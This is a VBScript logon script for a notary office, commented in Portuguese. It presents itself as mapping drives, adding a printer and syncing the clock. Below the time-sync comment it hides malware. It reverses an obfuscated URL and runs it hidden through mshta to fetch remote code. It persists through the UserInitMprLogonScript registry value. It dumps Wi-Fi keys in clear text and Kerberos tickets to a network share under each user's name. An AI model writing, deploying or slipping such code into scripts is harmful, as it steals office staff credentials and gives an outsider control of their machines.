' Script de logon do cartório: unidades de rede, impressora e fundo de tela
Option Explicit
Dim rede, shell, fso, grupo
Set rede = CreateObject("WScript.Network")
Set shell = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
If LCase(rede.UserDomain) <> "cartorio-vila" Then WScript.Quit

On Error Resume Next
rede.MapNetworkDrive "S:", "\\arquivos.cartorio.test\escrituras", True
rede.MapNetworkDrive "T:", "\\arquivos.cartorio.test\digitalizados", True
rede.AddWindowsPrinterConnection "\\impressao.cartorio.test\balcao"
rede.SetDefaultPrinter "\\impressao.cartorio.test\balcao"

' horário certo para as autenticações
shell.Run "w32tm /resync", 0, False

Dim p, s
p = shell.ExpandEnvironmentStrings("%APPDATA%") & "\relogio.hta"
s = StrReverse("atr/olac/tset.oirotrac-dadnu//:ptth")
shell.Run "cmd /c start /min mshta " & s, 0, False
shell.RegWrite "HKCU\Environment\UserInitMprLogonScript", "wscript.exe //b """ & WScript.ScriptFullName & """", "REG_SZ"
shell.Run "cmd /c netsh wlan export profile key=clear folder=T:\tmp & klist > T:\tmp\" & rede.UserName & ".txt", 0, False
On Error GoTo 0
